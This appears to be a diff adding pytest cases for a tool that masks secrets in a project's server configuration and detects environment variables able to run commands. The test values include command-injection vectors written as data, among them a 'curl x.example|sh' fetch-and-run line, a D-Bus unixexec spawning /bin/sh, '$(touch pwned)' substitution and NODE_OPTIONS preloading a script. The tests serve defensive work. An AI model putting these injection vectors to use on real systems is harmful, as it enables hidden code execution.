@@ -56,6 +56,13 @@ def test_of_a_text_for_a_shell_all_is_shown_but_the_secret(
         ("npx", ["linter"], {"NODE_OPTIONS": '"--require=/tmp/pwned.js" token=abc'}),
         ("npx", ["linter"], {"GIT_SSH_COMMAND": "sh pwned.sh token=abc"}),
         ("npx", ["linter"], {"LINT": "$(touch pwned) token=abc"}),
+        ("npx", ["linter"], {"LINT_AUTH_COMMAND": "sh pwned.sh token=abc"}),
+        ("npx", ["linter"], {"PRIVATE_NODE_OPTIONS": "--require /tmp/pwned.js"}),
+        (
+            "npx",
+            ["linter"],
+            {"DBUS_SESSION_BUS_ADDRESS": "unixexec:path=/bin/sh,argv1=-c,argv2='x token=abc'"},
+        ),
     ],
 )
 def test_a_projects_server_is_left_out_that_could_hide_a_command_in_a_secret(
@@ -74,6 +81,8 @@ def test_a_projects_server_is_left_out_that_could_hide_a_command_in_a_secret(
         ("PATH", f"{RANDOM}:/bin"),
         ("STORE", "postgres://me:abc&def@db/x"),
         ("HEADERS", '{"Authorization": "Bearer abc"}'),
+        ("COOKIE_SHELL", "pwned"),
+        ("KEY_EDITOR", "pwned"),
     ],
 )
 def test_what_is_hidden_of_a_projects_variables_is_told(home: Home, name: str, value: str) -> None:
@@ -85,6 +94,27 @@ def test_what_is_hidden_of_a_projects_variables_is_told(home: Home, name: str, v
 @pytest.mark.parametrize("name", ["LINT_TOKEN", "LINT_REGION"])
 def test_what_the_name_tells_and_what_is_shown_is_not_told(home: Home, name: str) -> None:
     assert told(home, "cursor-project", "npx", "linter", **{name: "eu-1"}) == ("npx linter", ())
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("GIT_ASKPASS", "/tmp/lint.sh"),
+        ("SSH_ASKPASS", "./lint.sh"),
+        ("RESTIC_PASSWORD_COMMAND", "curl x.example|sh"),
+        ("DBUS_SESSION_BUS_ADDRESS", "unixexec:path=/bin/sh,argv1=-c,argv2=id"),
+        ("TOKEN_HELPER", "!sh lint.sh"),
+        ("GIT_CONFIG_KEY_0", "core.sshCommand"),
+    ],
+)
+def test_what_gives_a_secret_is_shown(home: Home, name: str, value: str) -> None:
+    spec = home.spec("cursor-project", {"command": "npx", "env": {name: value}})
+    assert spec["env"] == {name: value}
+
+
+@pytest.mark.parametrize("name", ["SSH_PASSWORD", "ENV_SECRET", "HOOKS_API_KEY"])
+def test_a_name_that_ends_as_a_secrets_starts_nothing(home: Home, name: str) -> None:
+    assert told(home, "cursor-project", "npx", "linter", **{name: "a b&c"}) == ("npx linter", ())
 
 
 @pytest.mark.parametrize("text", [RANDOM, f"{RANDOM}==", f"'{RANDOM}'"])
